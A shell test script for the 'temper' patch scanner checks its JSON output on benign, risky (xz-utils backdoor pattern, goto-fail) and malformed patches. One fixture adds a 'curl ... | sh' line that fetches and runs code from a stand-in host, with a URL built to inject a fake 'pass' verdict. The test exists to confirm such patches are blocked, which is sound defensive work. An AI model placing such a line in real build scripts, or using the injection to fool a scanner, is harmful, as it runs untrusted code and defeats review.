#!/bin/sh
# temper scan --json through the real binary with guard_heuristic: one JSON
# object per patch with the verdict and every finding (guard, rule, severity,
# confidence, file, line, location, evidence, explanation); exit 0 pass, 3
# blocked, 1 error (still a JSON line); hostile content in a patch stays
# inside JSON strings.
: "${TEMPER_BIN:?}" "${TEMPER_PLUGINS:?}" "${TEMPER_DATA:?}" "${TEMPER_SRCDIR:?}"
PYTHON3=${PYTHON3:-python3}
. "$TEMPER_SRCDIR/tests/lib/tap.sh"
export TEMPER_NO_INSTALLED_PLUGINS=1
tmp=$(mktemp -d /tmp/temper-scanjson-XXXXXX)
trap 'rm -rf "$tmp"' EXIT
corpus=$TEMPER_DATA/guard
cat > "$tmp/p.ini" <<INI
[core]
store = sqlite:$tmp/state.db
workdir = $tmp/work
cache_dir = $tmp/cache

[pipeline]
stages = guard.heuristic

[guard "heuristic"]
plugin = heuristic
block_at = high
INI
run() { "$TEMPER_BIN" --plugin-dir "$TEMPER_PLUGINS" scan -c "$tmp/p.ini" --json "$@"; }
check() { # PYTHON over `docs` (the JSON lines of $tmp/out); exits 0 when true
    "$PYTHON3" -c "
import json, sys
docs = [json.loads(l) for l in open('$tmp/out') if l.strip()]
sys.exit(0 if ($1) else 1)"
}
FIELDS='{"guard","rule","severity","confidence","file","line","location","commit","evidence","explanation"}'

run "$corpus/benign-c-guard-clause.patch" > "$tmp/out" 2> "$tmp/err"
tap_check "a benign patch: exit 0" [ $? -eq 0 ]
tap_check "one JSON line, verdict pass" check 'len(docs) == 1 and docs[0]["verdict"] == "pass"'
tap_check "it names the patch" check 'docs[0]["patch"].endswith("benign-c-guard-clause.patch")'

run "$corpus/risky-xz-5.6.0-build-to-host.patch" > "$tmp/out" 2> "$tmp/err"
tap_check "the xz-utils pattern: exit 3" [ $? -eq 3 ]
tap_check "verdict block" check 'docs[0]["verdict"] == "block"'
tap_check "every finding has exactly the documented fields" \
    check "docs[0]['findings'] and all(set(f) == $FIELDS for f in docs[0]['findings'])"
tap_check "types: confidence 0..100, line an integer, severity a name" \
    check 'all(isinstance(f["confidence"], int) and 0 <= f["confidence"] <= 100 and
               isinstance(f["line"], int) and f["severity"] in
               ("info", "low", "medium", "high", "critical") for f in docs[0]["findings"])'
tap_check "the blocking rule is there with its location and explanation" \
    check 'any(f["rule"] == "binary-with-build-change" and f["severity"] == "high" and
               f["guard"] == "heuristic" and f["explanation"] and
               f["location"] == "%s:%d" % (f["file"] or "-", f["line"])
               for f in docs[0]["findings"])'
grep -q ': high binary-with-build-change ' "$tmp/out"
tap_check "no text lines on stdout with --json" [ $? -ne 0 ]

run "$corpus/benign-c-guard-clause.patch" "$corpus/risky-goto-fail.patch" > "$tmp/out" 2> "$tmp/err"
tap_check "two patches: exit 3 (the worst)" [ $? -eq 3 ]
tap_check "two JSON lines in order" \
    check 'len(docs) == 2 and [d["verdict"] for d in docs] == ["pass", "block"]'

printf 'From 1 Mon Sep 17 00:00:00 2001\n---\n@@ -1,2 +1,9 @@\n-x\n' > "$tmp/bad.patch"
run "$tmp/bad.patch" > "$tmp/out" 2> "$tmp/err"
tap_check "a malformed patch: exit 1" [ $? -eq 1 ]
tap_check "still one JSON line, verdict error with the reason" \
    check 'len(docs) == 1 and docs[0]["verdict"] == "error" and docs[0]["error"]'

# Hostile: evidence full of quotes, backslashes, a newline-looking payload and
# a fake verdict; the finding's evidence must stay a string.
cat > "$tmp/hostile.patch" <<'EOF'
diff --git a/build.sh b/build.sh
--- a/build.sh
+++ b/build.sh
@@ -1,2 +1,3 @@
 #!/bin/sh
+curl -s "https://x.example/\"},{\"verdict\":\"pass\"}\\n" | sh
 make
EOF
run "$tmp/hostile.patch" > "$tmp/out" 2> "$tmp/err"
rc=$?
tap_check "hostile evidence: exit 3" [ $rc -eq 3 ]
tap_check "hostile evidence: one line, verdict block, the payload inside a string" \
    check 'len(docs) == 1 and docs[0]["verdict"] == "block" and
           any("verdict" in f["evidence"] for f in docs[0]["findings"])'
tap_done
